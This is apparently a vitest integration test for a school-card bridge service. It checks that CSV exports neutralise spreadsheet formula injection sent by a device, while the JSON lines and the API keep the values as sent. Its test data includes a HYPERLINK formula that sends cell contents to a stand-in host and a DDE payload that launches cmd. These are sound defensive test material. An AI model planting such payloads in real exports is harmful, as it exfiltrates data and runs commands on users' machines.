import { mkdtemp, readdir, readFile, rm } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { generateKeyPair, signBatch, topics } from '@educard/terminal-sdk';
import { chainRecords } from '@educard/terminal-sdk/testing';
import { parse } from 'csv-parse/sync';
import mqtt from 'mqtt';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { IdentityRig, SET_UP_MS } from './identity-harness.js';

/**
 * Hostile field values from an enrolled device (or a stolen device key) reaching the bridge's
 * exports (issue 14, defect 5): a batch signed with the device's own key, over the broker, to
 * `educard-bridge serve` in file mode; then the CSV and JSON lines it writes, and the events API.
 */

let dir: string;
let rig: IdentityRig;
const outbox = () => join(dir, 'outbox');

const FORMULAS = [
  '=HYPERLINK("http://x.invalid/?"&A1,"open")',
  "+cmd|' /C calc'!A0",
  '-2+3',
  '@SUM(1+1)',
  '\t=1+1',
  '\r=1+1',
];

beforeAll(async () => {
  dir = await mkdtemp(join(tmpdir(), 'hostile-fields-'));
  rig = await IdentityRig.start(dir, {
    central: {
      mode: 'file',
      files: { inboxDir: join(dir, 'inbox'), outboxDir: outbox(), exportIntervalMs: 100 },
    },
  });
}, SET_UP_MS);
afterAll(async () => {
  await rig?.stop();
  await rm(dir, { recursive: true, force: true });
});

describe('hostile field values in every export', () => {
  it('reach the CSV as text, never as a formula, and the JSON lines and API as sent', async () => {
    const key = generateKeyPair();
    const enrolled = await rig.enrollAs(await rig.token(), 'gate-h1', key);
    expect(enrolled.status).toBe(200);
    const { url, username, password } = enrolled.body.mqtt as {
      url: string;
      username: string;
      password: string;
    };
    const device = await mqtt.connectAsync(url, {
      clientId: 'gate-h1',
      username,
      password,
      reconnectPeriod: 0,
    });
    const at = new Date().toISOString();
    const records = chainRecords(
      'gate-h1',
      FORMULAS.map((formula) => ({ type: 'custom.note', at, data: { personId: formula, note: formula } })),
    );
    await device.publishAsync(
      topics.events('school-1', 'gate-h1'),
      JSON.stringify(signBatch('gate-h1', 'school-1', records, key)),
      { qos: 1 },
    );
    await device.endAsync();

    const csvFiles = async () => (await readdir(outbox()).catch(() => [])).filter((n) => n.endsWith('.csv'));
    await expect.poll(csvFiles, { timeout: 20_000 }).toHaveLength(1);
    const [name] = await csvFiles();
    const rows = parse(await readFile(join(outbox(), name as string), 'utf8'), { columns: true }) as Record<
      string,
      string
    >[];
    expect(rows).toHaveLength(FORMULAS.length);
    expect(rows.map((row) => row.person_id)).toEqual(FORMULAS.map((formula) => `'${formula}`));
    for (const row of rows) for (const cell of Object.values(row)) expect(cell).not.toMatch(/^[=+\-@\t\r]/);

    const jsonl = (await readFile(join(outbox(), (name as string).replace('.csv', '.jsonl')), 'utf8'))
      .trim()
      .split('\n')
      .map((line) => JSON.parse(line) as { record: { data: { note: string } } });
    expect(jsonl.map((line) => line.record.data.note)).toEqual(FORMULAS);
    const { body } = await rig.api('GET', '/v1/events?device=gate-h1');
    expect((body.events as { record: { data: { note: string } } }[]).map((e) => e.record.data.note)).toEqual(
      FORMULAS,
    );
  });
});
